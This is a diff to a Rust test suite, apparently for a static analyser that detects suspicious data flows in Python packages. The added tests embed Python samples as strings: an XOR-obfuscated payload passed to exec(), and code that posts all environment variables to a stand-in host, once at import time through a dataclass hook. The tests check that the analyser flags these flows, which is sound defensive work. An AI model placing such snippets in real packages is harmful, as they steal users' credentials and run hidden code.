@@ -1061,6 +1061,10 @@ fn paths_of_a_listing_are_paths() {
 fn a_key_that_is_computed_leaves_its_mark() {
     let sample = "import os, hashlib\nk = hashlib.sha256(os.environ.get('X', '').encode()).digest()\nexec(bytes(a ^ b for a, b in zip(bytes.fromhex('8f1c'), k)).decode())";
     flow(&analysed(Role::Package, sample), "environment.read", "code.exec");
+    let sample = "import os, hashlib\nk = hashlib.sha256(os.environ.get('X', '').encode()).digest()\nb = bytes.fromhex('8f1c')\nexec(bytes(x ^ y for x, y in zip(b, k)).decode('latin-1'))";
+    flow(&analysed(Role::Package, sample), "environment.read", "code.exec");
+    let sample = "import os, requests\nrequests.post('http://a.invalid', data=str(os.environ).encode('utf-8'))";
+    flow(&analysed(Role::Package, sample), "environment.read", "network.send");
 }
 
 #[test]
@@ -1102,4 +1106,11 @@ fn what_is_set_in_the_environment_is_a_call() {
         });
         assert!(set, "{sample}");
     }
+}
+
+#[test]
+fn fields_of_a_data_class_are_filled() {
+    let sample = "import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass R:\n    env: dict = field(default_factory=lambda: dict(os.environ))\n    url: str = 'http://a.invalid'\n    def __post_init__(self):\n        requests.post(self.url, json=self.env)\nR()";
+    let analysis = analysed(Role::Package, sample);
+    assert_eq!(flow(&analysis, "environment.read", "network.send").phase, Phase::Import);
 }
